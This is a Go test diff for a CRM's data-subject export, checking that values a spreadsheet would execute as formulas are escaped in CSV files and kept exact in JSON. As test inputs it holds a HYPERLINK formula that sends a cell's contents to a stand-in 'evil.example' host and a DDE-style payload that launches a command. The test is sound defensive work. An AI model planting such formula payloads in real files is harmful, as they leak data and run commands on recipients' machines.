@@ -1,10 +1,13 @@
 package socialcrm_test
 
 import (
+	"archive/zip"
 	"bytes"
 	"context"
+	"encoding/csv"
 	"encoding/json"
 	"errors"
+	"io"
 	"strings"
 	"testing"
 
@@ -139,4 +142,49 @@ func slicesMissing(hay string, values []string) []string {
 		}
 	}
 	return out
+}
+
+// TestS10AuditDSARExportCSVIsNotAFormula: in a data-subject export, a
+// value a spreadsheet would run as a formula (her name as a form gave it,
+// a message) is written to the CSV files as text — an apostrophe in front
+// — while the JSON files keep it exact.
+func TestS10AuditDSARExportCSVIsNotAFormula(t *testing.T) {
+	dbtest.Each(t, func(t *testing.T, db *dbtest.DB) {
+		sdk := dsarSDK(t, db)
+		a := dsarTenant(t, sdk, "formula")
+		evil := `=HYPERLINK("https://evil.example/?"&A1,"x")`
+		c, err := sdk.CRM.Contacts().Create(a, crm.ContactInput{FirstName: evil, Email: "formula@example.com", Phone: "+14155550123"})
+		require.NoError(t, err)
+		_, err = sdk.CRM.Notes().Create(a, crm.NoteInput{ContactID: c.ID, Body: "@SUM(1+1)*cmd|' /C calc'!A0"})
+		require.NoError(t, err)
+		x := submitVerified(t, sdk, a, retention.KindAccess, map[string]string{crm.SubjectEmail: "formula@example.com"})
+		var archive bytes.Buffer
+		_, err = sdk.Retention.Export(a, x.ID, &archive)
+		require.NoError(t, err)
+		zr, err := zip.NewReader(bytes.NewReader(archive.Bytes()), int64(archive.Len()))
+		require.NoError(t, err)
+		var jsonText strings.Builder
+		for _, f := range zr.File {
+			rc, err := f.Open()
+			require.NoError(t, err)
+			data, err := io.ReadAll(rc)
+			rc.Close()
+			require.NoError(t, err)
+			switch {
+			case strings.HasSuffix(f.Name, ".csv"):
+				recs, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
+				require.NoError(t, err, f.Name)
+				for _, rec := range recs {
+					for _, cell := range rec {
+						if cell != "" && strings.ContainsRune("=@\t\r", rune(cell[0])) {
+							t.Errorf("%s: a cell a spreadsheet would run: %q", f.Name, cell)
+						}
+					}
+				}
+			case strings.HasSuffix(f.Name, ".json"):
+				jsonText.Write(data)
+			}
+		}
+		require.Contains(t, jsonText.String(), `"first_name":"=HYPERLINK(\"https://evil.example/?\"\u0026A1,\"x\")"`, "JSON keeps the value exact")
+	}, migrated)
 }
